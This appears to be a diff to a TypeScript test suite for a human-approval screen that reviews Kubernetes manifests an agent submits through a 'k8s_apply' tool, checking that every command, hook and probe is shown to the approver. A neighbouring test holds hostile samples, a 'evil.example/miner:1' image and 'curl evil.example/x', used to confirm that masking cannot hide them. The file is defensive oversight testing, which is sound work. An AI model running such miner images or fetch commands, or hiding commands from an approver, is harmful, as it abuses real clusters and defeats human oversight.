@@ -227,6 +227,64 @@ describe('text that deceives', () => {
   });
 });
 
+test('the approver sees every command that would run, whole, wherever it stands', async () => {
+  const command = (...words: string[]) => ({ exec: { command: words } });
+  const start = (word: string) => {
+    const startupProbe = command('test', word);
+    const sidecar = { name: 'first', image: 'shop/web:1', restartPolicy: 'Always', startupProbe };
+    return JSON.stringify({
+      apiVersion: 'apps/v1',
+      kind: 'Deployment',
+      metadata: { name: 'busy', namespace: 'shop' },
+      spec: {
+        selector: { matchLabels: { app: 'busy' } },
+        template: {
+          metadata: { labels: { app: 'busy' } },
+          spec: {
+            initContainers: [sidecar],
+            containers: [
+              {
+                name: 'main',
+                image: 'shop/web:1',
+                command: ['serve'],
+                args: ['--port', word],
+                lifecycle: { postStart: command('sh', '-c', word) },
+                livenessProbe: command('true'),
+              },
+            ],
+          },
+        },
+      },
+    });
+  };
+  const signal = new AbortController().signal;
+  const screenOf = async (manifest: string) => {
+    const asked = await running.call('k8s_apply', { manifest, force: true });
+    const review = await reviewTicket(running.vigie, { id: idOf(asked), person: 'alice', signal });
+    return { asked, lines: 'review' in review ? review.review.screen.split('\n') : [] };
+  };
+  const runs = (lines: string[]) =>
+    lines.filter(line => line.startsWith('Runs ')).map(line => line.slice(13));
+  const suffix = ' (Deployment/busy in shop)';
+  const changing = (word: string) =>
+    [
+      'main args 0 --port',
+      `main args 1 ${word}`,
+      'main lifecycle postStart exec command 0 sh',
+      'main lifecycle postStart exec command 1 -c',
+      `main lifecycle postStart exec command 2 ${word}`,
+      'first startupProbe exec command 0 test',
+      `first startupProbe exec command 1 ${word}`,
+    ].map(line => line + suffix);
+  const made = await screenOf(start('one'));
+  expect(runs(made.lines)).toEqual(expect.arrayContaining(changing('one')));
+  expect(runs(made.lines)).toContain(`main command 0 serve${suffix}`);
+  expect(runs(made.lines)).toContain(`main livenessProbe exec command 0 true${suffix}`);
+  await running.approve(idOf(made.asked));
+  const changed = await screenOf(start('two'));
+  expect(runs(changed.lines).toSorted()).toEqual(changing('two').toSorted());
+});
+
 test('an image cannot be hidden from the approver by a variable that repeats it, nor a command unnoticed', async () => {
   const [image, command] = ['evil.example/miner:1', 'curl evil.example/x'];
   const env = [
@@ -252,7 +310,7 @@ test('an image cannot be hidden from the approver by a variable that repeats it,
   const screen = 'review' in review ? review.review.screen : '';
   expect(screen).toMatch(/^Runs +evil image evil\.example\/miner:1 /m);
   expect(screen).toMatch(/^Targets +create Deployment\/evil in shop/m);
-  expect(screen).toMatch(/^Runs +args 0 \[redacted #\d+\]/m);
+  expect(screen).toMatch(/^Runs +evil args 0 \[redacted #\d+\]/m);
   expect(screen).toMatch(/^Note +part of a command is masked/m);
 });
 
